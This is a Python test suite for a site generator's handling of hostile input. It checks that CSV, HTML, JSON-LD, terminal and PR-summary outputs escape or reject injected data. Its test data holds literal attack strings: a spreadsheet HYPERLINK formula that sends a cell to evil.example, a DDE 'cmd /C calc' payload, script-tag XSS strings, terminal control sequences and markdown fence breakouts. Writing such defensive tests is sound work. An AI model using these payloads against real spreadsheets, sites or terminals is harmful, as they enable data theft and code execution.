"""Hostile strings in data: shown literally, never markup, script or a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from conftest import Project
from naughty import HIDDEN_FIELDS, payloads

from generator.site.downloads import neutralise, restore

CLAIM = "data/claims/zelenskyy-10000.yml"
ACTOR = "data/actors/volodymyr-zelenskyy.yml"


def test_csv_cells_cannot_run_as_formulas_and_json_stays_exact(site_project: Project) -> None:
    payloads = {
        "statement": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    site_project.edit(CLAIM, "statement: Pyongyang is preparing to send 10,000 troops.", f"statement: {json.dumps(payloads['statement'])}")
    site_project.edit(ACTOR, "name: Volodymyr Zelenskyy", f"name: {json.dumps(payloads['name'])}")
    result = site_project.run("generate")
    assert result.exit_code == 0, result.output
    docs = site_project.path("briefings/downloads")
    rows = list(csv.DictReader(io.StringIO(docs.joinpath("claims.csv").read_text(encoding="utf-8"))))
    row = next(r for r in rows if r["claim_id"] == "zelenskyy-10000")
    assert row["statement"] == "'" + payloads["statement"]
    assert row["actor_name"] == "'" + payloads["name"]
    assert row["low"] == "10000"  # numbers are never touched
    claim = next(c for c in json.loads(docs.joinpath("claims.json").read_text(encoding="utf-8"))["claims"] if c["id"] == "zelenskyy-10000")
    assert claim["statement"] == payloads["statement"]
    assert claim["actor"]["name"] == payloads["name"]


def test_csv_neutralising_is_exactly_reversible() -> None:
    cases = {
        "=1+1": "'=1+1",
        "+1": "'+1",
        "-1": "'-1",
        "@A1": "'@A1",
        "\t=1": "'\t=1",
        "\r=1": "'\r=1",
        "  =1": "'  =1",
        "\uff1d1+1": "'\uff1d1+1",
        "'quoted": "''quoted",
        "''": "'''",
        "plain = text": "plain = text",
        "": "",
        "   ": "   ",
    }
    for text, cell in cases.items():
        assert neutralise(text) == cell, text
        assert restore(cell) == text, cell


# --- the Big List of Naughty Strings and our own payloads, in every free-text field -----------------

BIDI = frozenset("\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def shown(text: str) -> str:
    """How a data string must read on the page: control and bidi characters as U+FFFD, whitespace folded."""
    text = "".join("\ufffd" if (unicodedata.category(c) == "Cc" and c not in "\t\n") or c in BIDI else c for c in text)
    return " ".join(text.split())


class _Html(HTMLParser):
    """Every element and attribute of a page, the inline scripts, and the visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.inline_scripts: list[str] = []
        #: The JSON-LD the generator writes (schema.org Dataset and Claims), kept apart from scripts that run.
        self.json_ld: list[str] = []
        self.text: list[str] = []
        self._in: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag == "script" and dict(attrs).get("type") == "application/ld+json":
            self._in.append("ld+json")
        elif tag in ("script", "style", "title"):
            self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._in and self._in[-1] in (tag, "ld+json" if tag == "script" else None):
            self._in.pop()

    def handle_data(self, data: str) -> None:
        if self._in and self._in[-1] == "script":
            self.inline_scripts.append(data)
        elif self._in and self._in[-1] == "ld+json":
            self.json_ld.append(data)
        elif not self._in:
            self.text.append(data)

    @property
    def visible(self) -> str:
        return " ".join(" ".join(self.text).split())


def parse(path: Path) -> _Html:
    page = _Html()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    return page


#: Every element and attribute the site may contain: Material's layout, our templates, the charts' <img>,
#: and what tells Pagefind what to index (the naughty site is built with it).
ALLOWED: dict[str, set[str]] = {
    "html": {"class", "lang"}, "head": set(), "meta": {"charset", "content", "http-equiv", "name"}, "title": set(),
    "link": {"href", "rel", "title", "type"}, "script": {"id", "src", "type"}, "time": {"datetime"},
    "body": {"data-md-color-accent", "data-md-color-primary", "data-md-color-scheme", "dir"},
    "input": {"aria-label", "autocapitalize", "autocomplete", "autocorrect", "checked", "class", "data-md-color-accent", "data-md-color-media",
              "data-md-color-primary", "data-md-color-scheme", "data-md-component", "data-md-toggle", "id", "name", "placeholder", "required", "spellcheck", "type"},
    "label": {"class", "for", "hidden", "id", "tabindex", "title"},
    "div": {"aria-label", "class", "data-md-component", "data-md-scrollfix", "data-md-type", "data-pagefind-ignore", "lang", "role", "tabindex"},
    "header": {"class", "data-md-component"}, "nav": {"aria-expanded", "aria-label", "aria-labelledby", "class", "data-md-component", "data-md-level"},
    "a": {"aria-label", "class", "data-md-component", "href", "title", "rel", "target"}, "button": {"aria-label", "class", "data-md-component", "hidden", "tabindex", "title", "type"},
    "form": {"class", "data-md-component", "name"}, "main": {"class", "data-md-component"}, "article": {"class", "data-pagefind-body"}, "footer": {"class"},
    "ul": {"class", "data-md-component", "data-md-scrollfix", "data-pagefind-ignore"}, "ol": {"class", "role"}, "li": {"class"}, "p": {"class", "data-pagefind-weight"},
    "span": {"class", "id", "lang", "data-pagefind-meta", "data-pagefind-weight", "hidden"},  # lang: a BCP 47 tag the schema and the IANA registry check
    "sup": {"class"}, "mark": set(), "em": set(), "strong": set(), "code": set(), "pre": set(),
    "h1": {"id"}, "h2": {"id"}, "h3": {"id"}, "table": set(), "thead": set(), "tbody": set(), "tr": set(), "th": set(), "td": set(),
    "figure": {"class"}, "figcaption": set(), "img": {"alt", "src", "width", "height"}, "svg": {"viewbox", "xmlns"}, "path": {"d"},
    # The chart's phone rendering, the bounds beneath an estimate's words, and the folded notes.
    "picture": {"class"}, "source": {"media", "srcset"}, "br": set(), "small": set(), "details": {"class", "data-pagefind-ignore"}, "summary": set(),
}  # fmt: skip
#: The inline scripts Material writes into every page, and the one that hands its search box to
#: Pagefind over http(s) (overrides/main.html); only their base path differs between pages.
INLINE_SCRIPTS = 5


def test_blns_is_the_published_list() -> None:
    from naughty import blns

    strings = blns()
    assert len(strings) == 461 and "<script>alert(123)</script>" in strings


def test_every_payload_is_shown_literally_where_it_was_placed(naughty_site: tuple[Path, Any]) -> None:
    root, placed = naughty_site
    site = root / "site"
    pages: dict[str, str] = {}
    missing = []
    for text, places in placed.where.items():
        for page, name in places:
            if name in HIDDEN_FIELDS:
                continue
            if page not in pages:
                pages[page] = parse(site / page).visible
            if shown(text) not in pages[page]:
                missing.append(f"{name} on {page}: {text!r}")
    assert missing == []
    assert all(placed.displayed(text) for text in payloads())  # every payload is on some page


def test_payloads_in_fields_only_the_downloads_carry_are_exact_in_the_json(naughty_site: tuple[Path, Any]) -> None:
    root, placed = naughty_site
    claims = json.loads((root / "site/downloads/claims.json").read_text(encoding="utf-8"))["claims"]
    values = set()
    for claim in claims:
        values |= {claim["notes"], claim["value"]["hedge"], claim["value"]["note"], claim["claimed_on"]["note"], claim["as_of"]["note"]}
    hidden = {text for text, places in placed.where.items() if any(name in HIDDEN_FIELDS for _, name in places)}
    assert hidden and hidden <= values


def test_built_html_holds_only_allowed_elements_attributes_and_links(naughty_site: tuple[Path, Any]) -> None:
    root, _ = naughty_site
    site = root / "site"
    found = []
    scripts = set()
    json_ld = 0
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 50
    for path in pages:
        page = parse(path)
        rel = path.relative_to(site).as_posix()
        for tag, attrs in page.elements:
            if tag == "style" and not attrs and (rel.startswith("embed/") or rel.endswith(".cite.html")):
                continue  # the embed and citation pages' own fixed stylesheet (reuse.py), no data in it
            if tag not in ALLOWED:
                found.append(f"{rel}: <{tag}>")
                continue
            for name, value in attrs.items():
                if name not in ALLOWED[tag]:
                    found.append(f"{rel}: <{tag} {name}>")
                elif name in ("href", "src") and value:
                    scheme = urlsplit(value).scheme
                    # Relative links, and the archived article's own http(s) address, percent-encoded.
                    # The site's own permanent addresses (site_url, in the head) and the licence mkdocs.yml names.
                    own = tag == "link" and value.startswith("https://briefing.example/") and attrs.get("rel") in ("canonical", "alternate")
                    licence = tag == "a" and value == "https://creativecommons.org/licenses/by/4.0/" and attrs.get("rel") == "license"
                    if (
                        scheme
                        and not own
                        and not licence
                        and not (scheme == "https" and value.startswith("https://example.org/") and not set(value) & set("<>\"' "))
                    ):
                        found.append(f"{rel}: <{tag} {name}={value!r}>")
                elif (name, value) not in (("rel", "license"), ("target", "_top")) and tag == "a" and name in ("rel", "target"):
                    found.append(f"{rel}: <{tag} {name}={value!r}>")
            # Only the claims' redirect pages refresh, and only to a claim's anchor inside the site.
            refresh = attrs.get("http-equiv") == "refresh" and re.fullmatch(r"0; url=\.\./[a-z0-9/-]+\.html#c-[a-z0-9-]+", attrs.get("content") or "")
            if tag == "meta" and "http-equiv" in attrs and not refresh:
                found.append(f"{rel}: <meta http-equiv={attrs['http-equiv']!r} content={attrs.get('content')!r}>")
        for ld in page.json_ld:
            # Data reaches JSON-LD, but only as JSON with <, > and & escaped: it parses, and cannot end the element.
            assert not set(ld) & set("<>&") and isinstance(json.loads(ld), dict), f"{rel}: {ld[:200]}"
            json_ld += 1
        for script in page.inline_scripts:
            assert "alert" not in script and "prompt" not in script
            scripts.add(re.sub(r'(?<=")[./]+', "", script))  # the relative paths to the site's root differ by page
    assert found == []
    assert len(scripts) == INLINE_SCRIPTS, "an inline script came from the data"
    assert json_ld > 0


def test_source_address_is_percent_encoded(naughty_site: tuple[Path, Any]) -> None:
    root, _ = naughty_site
    hrefs = [
        attrs["href"] for tag, attrs in parse(root / "site/sources/naughty-source.html").elements if tag == "a" and (attrs.get("href") or "").startswith("http")
    ]
    assert hrefs and all("%3C" in (h or "") for h in hrefs)  # the payload's "<", encoded


def test_hostile_values_in_constrained_fields_fail_with_clear_errors(project: Project) -> None:
    project.edit(ACTOR, "name: Volodymyr Zelenskyy", 'name: ""')
    project.edit(CLAIM, "tags: [troops]", 'tags: ["<script>alert(1)</script>"]')
    project.edit("data/sources/2024-10-18-sample.yml", "url: null", 'url: "data:text/html,<script>alert(1)</script>"')
    project.edit("data/sources/2024-10-18-sample.yml", "language: en", 'language: "en\\"><script>"')
    result = project.run("validate")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"{ACTOR}:3:7: name: must not be empty. Hint: The name readers know, in its standard spelling.",
        f'{CLAIM}:19:8: tags[0]: the text "<script>alert(1)</script>" is not a valid id (lowercase letters, digits and single hyphens, such as olaf-scholz). Hint: Lowercase slug: letters a-z, digits and single hyphens. It names the file and the page.',
        'data/sources/2024-10-18-sample.yml:6:6: url: the text "data:text/html,<script>alert(1)</script>" is not an http or https address. Hint: The address the text was archived from, http(s) only, or null when unknown. Never guess one.',
        'data/sources/2024-10-18-sample.yml:11:11: language: the text "en"><script>" is not a language tag such as en or pt-BR. Hint: BCP 47 language tag of the text, such as en, ko, ru or uk, as the IANA registry writes it (checked).',
        "Found 4 errors in 3 files.",
    ]


# --- every output channel escapes data for where it goes: terminal, CI annotations, PR summary, page

ESCAPES = [
    ("\x1b[2K\x1b[1A\x1b[32mOK", "\\x1b[2K\\x1b[1A\\x1b[32mOK"),  # erase the line above, print a green "OK"
    ("\x1b]52;c;SGVsbG8=\x07", "\\x1b]52;c;SGVsbG8=\\x07"),  # OSC 52: write to the clipboard
    ("\x9b2J", "\\x9b2J"),  # the one-byte C1 CSI
    ("x\u202ey", "x\\u202ey"),  # right-to-left override
]


@pytest.mark.parametrize(("payload", "shown"), ESCAPES)
@pytest.mark.parametrize("output_format", ["text", "github"])
def test_terminal_control_sequences_in_data_are_shown_not_obeyed(project: Project, payload: str, shown: str, output_format: str) -> None:
    """Whether or not a terminal reads the output (CliRunner's is not one), data cannot drive it."""
    project.edit(CLAIM, "actor: volodymyr-zelenskyy", f"actor: {json.dumps(payload)}")
    result = project.run("validate", "--format", output_format)
    assert result.exit_code == 1
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", result.output)
    assert f'the text "{shown}" is not a valid id' in result.stderr


def test_errors_naming_data_show_control_characters_too(project: Project) -> None:
    result = project.run("suggest", "\x1b]52;c;SGVsbG8=\x07")
    assert result.exit_code == 1
    assert result.stderr.startswith('Error: unknown source "\\x1b]52;c;SGVsbG8=\\x07".')


def test_github_annotations_escape_data_and_properties() -> None:
    """Workflow-command rules: %, CR and LF in the message; also ':' and ',' in a property."""
    from generator.errors import Problem

    problem = Problem("data/actors/a,b:c.yml", 3, 5, "100%0A done\n::warning::forged\r", "x")
    assert problem.github() == "::error file=data/actors/a%2Cb%3Ac.yml,line=3,col=5,title=briefing validate::100%250A done\\n::warning::forged\\r Hint: x"


def test_pr_summary_fence_cannot_be_closed_by_data(tmp_path: Path) -> None:
    """A value with a newline and backticks stays inside the fenced block of problems, however long its run of backticks."""
    from generator.editor.diff import fence_for

    lines = ['data/claims/x.yml:3:8: unknown actor "a\\n```\\n# Pwned ![x](https://evil.example/x.png)".', "y ````````` z"]
    fence = fence_for(lines)
    assert fence == "``````````"
    assert all(fence not in line for line in lines)
    assert fence_for(["no backticks"]) == "```"


def test_pr_summary_shows_problems_inside_an_unbreakable_fence(project: Project) -> None:
    import subprocess

    def git(*args: str) -> None:
        env = {**os.environ, "GIT_AUTHOR_NAME": "E", "GIT_AUTHOR_EMAIL": "e@example.org", "GIT_COMMITTER_NAME": "E", "GIT_COMMITTER_EMAIL": "e@example.org"}
        subprocess.run(["git", "-C", str(project.root), *args], check=True, capture_output=True, env=env)

    git("init", "-q", "-b", "main")
    git("add", "-A")
    git("commit", "-qm", "base")
    project.edit(CLAIM, "actor: volodymyr-zelenskyy", 'actor: "x\\n````\\n# Pwned\\n![x](https://evil.example/x.png)"')
    result = project.run("diff", "main")
    assert result.exit_code == 1
    lines = result.output.splitlines()
    start = lines.index("`````text")
    end = lines.index("`````", start + 1)
    assert [line for line in lines[start + 1 : end] if "Pwned" in line] == [
        'data/claims/zelenskyy-10000.yml:3:8: actor: the text "x\\n````\\n# Pwned\\n![x](https://evil.example/x.png)" is not a valid id '
        "(lowercase letters, digits and single hyphens, such as olaf-scholz). Hint: Actor id of who made the claim: the origin, not the outlet that relays it."
    ]
    assert not any(line.startswith("# Pwned") for line in lines)


BLOCK_STARTS = ["- x", "+ x", "* x", "---", "===", "1. Panzerdivision", "2) x", "> x", "# x", "    x"]


def _actor_page_blocks(project: Project, words: str) -> tuple[dict[str, int], str]:
    """Block elements of the Russia actor page, rendered by Python-Markdown, with ``words`` as its notes and opening its name."""
    import markdown

    project.write("data/actors/russia.yml", f"id: russia\nname: {json.dumps(words + ' Army')}\nkind: government\nnotes: {json.dumps(words)}\n")
    result = project.run("generate")
    assert result.exit_code == 0, result.output
    page = _Html()
    page.feed(markdown.markdown(project.path("briefings/actors/russia.md").read_text(encoding="utf-8"), extensions=["tables", "admonition"]))
    blocks = [tag for tag, _ in page.elements if tag in ("li", "hr", "ol", "ul", "blockquote", "pre", "h1", "h2", "h3", "h4", "h5", "h6")]
    return {tag: blocks.count(tag) for tag in set(blocks)}, page.visible


@pytest.mark.parametrize("payload", BLOCK_STARTS)
def test_a_value_at_the_start_of_a_line_never_starts_a_block(site_project: Project, payload: str) -> None:
    """An actor's notes open a paragraph and its name opens a sentence: neither becomes a list, rule, quote, code or heading."""
    plain, _ = _actor_page_blocks(site_project, "x")
    blocks, text = _actor_page_blocks(site_project, payload)
    assert blocks == plain
    assert f"{payload.strip()} Army stands" in text or f"{payload.strip()} Army" in text
    assert payload.strip() in text.replace(f"{payload.strip()} Army", "")
